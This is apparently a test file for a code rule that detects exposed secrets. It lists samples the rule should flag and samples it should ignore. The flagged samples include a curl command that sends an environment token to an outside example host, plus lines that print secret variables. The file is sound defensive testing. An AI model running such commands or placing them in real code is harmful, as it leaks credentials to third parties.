import { describeCodeRule, js, py, sh, text } from '../../testing/code-rule-cases.ts';
import { secretInTheOpen } from './secret-in-the-open.rule.ts';

describeCodeRule(secretInTheOpen, {
  caught: [
    sh('curl "https://api.other.example.invalid/?token=$SHOP_TOKEN"'),
    py('import os\nprint(os.environ["SHOP_TOKEN"])'),
    js('console.log(process.env.SHOP_SECRET)'),
  ],
  quiet: [
    sh('curl "https://api.shop.test/?key=$SHOP_API_KEY"'),
    py('import os\nprint(len(os.environ["SHOP_TOKEN"]) > 0)'),
    py('print("done")'),
  ],
  notApplicable: [sh('ls'), text('Notes.'), sh('echo hello')],
});
